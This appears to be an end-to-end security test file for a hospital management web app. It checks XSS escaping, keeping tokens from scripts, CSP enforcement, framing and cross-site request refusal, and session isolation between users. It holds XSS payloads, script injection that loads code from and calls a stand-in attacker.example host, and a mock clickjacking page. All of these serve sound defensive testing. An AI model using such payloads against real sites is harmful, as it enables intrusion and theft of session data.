/** Attacks that come from a browser: scripts in what people type, frames of other sites, and a look for tokens. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import type { Page } from 'playwright-core';
import { logIn, register, Scene, scriptsIn } from '../support/browser.ts';

let scene: Scene;
let page: Page;

beforeAll(async () => {
  scene = await Scene.start('<b>Attacked</b> "Hospital" <img src=x onerror=window.ran=1>');
  page = await scene.loggedIn('ADMIN');
}, 180_000);
afterAll(() => scene?.stop());

const SCRIPTS = [
  '<img src=x onerror="window.ran=1">',
  '"><script>window.ran=1</script>',
  "');window.ran=1//",
  '{{7*7}}',
];

it('shows scripts as text, wherever they were typed', async () => {
  const scripts = scriptsIn(page);
  for (const script of SCRIPTS) {
    const id = await register(page, scene.origin, { firstName: script, lastName: script });
    await page.getByRole('heading', { name: `${script} ${script}` }).waitFor();
    const buffer = Buffer.from('%PDF-1.4\n%%EOF\n');
    await page.goto(`${scene.origin}/patients/${id}?tab=documents`);
    await page.getByText('There are no documents yet.').waitFor();
    const name = `${script.replaceAll('/', '-')}.pdf`;
    await page
      .getByRole('tabpanel')
      .locator('input[type=file]')
      .setInputFiles({ name, mimeType: 'application/pdf', buffer });
    await page.getByRole('button', { name: 'Upload', exact: true }).click();
    await page.getByRole('cell', { name }).waitFor();
    for (const tab of ['family', 'history']) {
      await page.goto(`${scene.origin}/patients/${id}?tab=${tab}`);
      await page.getByRole('table').waitFor();
    }
    const text = encodeURIComponent(script);
    for (const path of [`patients?q=${text}`, `patients?sort=${text}&page=${text}`, `audit?actorEmail=${text}%40x`]) {
      await page.goto(`${scene.origin}/${path}`);
      await page.getByRole('heading', { level: 1 }).waitFor();
    }
  }
  await page.goto(`${scene.origin}/audit?action=create`);
  await page
    .getByRole('cell', { name: /onerror/ })
    .first()
    .waitFor();
  expect(await page.evaluate('window.ran')).toBeUndefined();
  expect(scripts).toEqual([]);
}, 120_000);

it('keeps tokens from scripts: the refresh token entirely, the access token outside of memory', async () => {
  const requested = page.waitForRequest((request) => request.url().includes('/api/hms/patients'));
  await page.goto(`${scene.origin}/patients`);
  const token = (await (await requested).headerValue('authorization'))?.replace('Bearer ', '') ?? '';
  expect(token.split('.')).toHaveLength(3);
  const reachable = await page.evaluate(`(async () => {
    const names = Object.getOwnPropertyNames(window).filter((name) => typeof window[name] === 'string');
    const databases = await indexedDB.databases();
    return JSON.stringify([
      document.cookie, { ...localStorage }, { ...sessionStorage }, names.map((name) => window[name]), databases,
      document.documentElement.outerHTML, history.state, await caches.keys(),
    ]);
  })()`);
  expect(reachable).not.toContain(token.slice(0, 20));
  expect(reachable).not.toContain('__Host-hms');
  expect(await page.evaluate('document.cookie')).toBe('');
  const cookies = await page.context().cookies();
  expect(cookies).toMatchObject([{ name: '__Host-hms', httpOnly: true, secure: true, sameSite: 'Strict', path: '/' }]);
  expect(page.url()).not.toContain(token.slice(0, 20));
});

it('runs no script that is not a file of its own', async () => {
  await page.goto(`${scene.origin}/patients`);
  await page.getByRole('heading', { name: 'Patients' }).waitFor();
  await page.evaluate(`(() => {
    window.violated = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.violated.push(effectiveDirective));
    const inline = document.createElement('script');
    inline.textContent = 'window.ran = 1';
    document.body.append(inline);
    const image = document.createElement('div');
    image.innerHTML = '<img src=x onerror="window.ran = 2"><style>body { display: none }</style><form action="http://attacker.example">';
    document.body.append(image);
    const foreign = document.createElement('script');
    foreign.src = 'http://attacker.example/x.js';
    document.body.append(foreign);
    fetch('http://attacker.example/').catch(() => undefined);
  })()`);
  const policies = ['script-src-elem', 'script-src-attr', 'style-src-elem', 'connect-src'];
  await page.waitForFunction('window.violated.length >= 5');
  expect(await page.evaluate('window.violated')).toEqual(expect.arrayContaining(policies));
  expect(await page.evaluate('window.ran')).toBeUndefined();
});

it('is shown in no frame, and obeys no page of another site', async () => {
  const attacker = await attackersSite();
  try {
    const other = await page.context().newPage();
    await other.goto(`http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`);
    const answers = await other.evaluate(`Promise.all(['refresh', 'logout'].map((path) =>
      fetch('${scene.origin}/session/' + path, { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' })
        .then((answer) => answer.status + answer.type)
        .catch((error) => error.name)))`);
    // The requests arrive and are refused, and the page may not even see that.
    expect(answers).toEqual(['TypeError', 'TypeError']);
    const json = await other.evaluate(`fetch('${scene.origin}/session/refresh', {
      method: 'POST', credentials: 'include', body: '{}', headers: { 'Content-Type': 'application/json' },
    }).then((answer) => answer.status).catch((error) => error.name)`);
    expect(json).toBe('TypeError');
    const frame = other.frames().find((one) => one !== other.mainFrame());
    await other.waitForTimeout(500);
    expect(await frame?.evaluate('document.body?.innerText ?? ""').catch(() => '')).not.toContain('Log in');
    expect(frame?.url()).not.toContain('/patients');
    await other.close();
    // The session is still there.
    await page.goto(`${scene.origin}/patients`);
    await page.getByRole('heading', { name: 'Patients' }).waitFor();
  } finally {
    attacker.close();
  }
});

it('shows nothing of one person to the next one', async () => {
  const receptionist = await scene.person('RECEPTION');
  await page.goto(`${scene.origin}/patients`);
  await page.getByRole('button', { name: 'Account of Demo Admin' }).click();
  await page.getByRole('menuitem', { name: 'Log out' }).click();
  await logIn(page, receptionist.email, receptionist.password);
  await page.getByRole('heading', { name: 'Patients', exact: true }).waitFor();
  expect(await page.getByRole('link', { name: 'Audit log' }).count()).toBe(0);
  await page.goBack();
  await page.waitForTimeout(500);
  expect(await page.getByRole('link', { name: 'Audit log' }).count()).toBe(0);
});

function attackersSite(): Promise<Server> {
  const server = createServer((_, response) => {
    response
      .setHeader('Content-Type', 'text/html')
      .end(`<h1>Win a prize</h1><iframe src="${scene.origin}/patients"></iframe>`);
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}
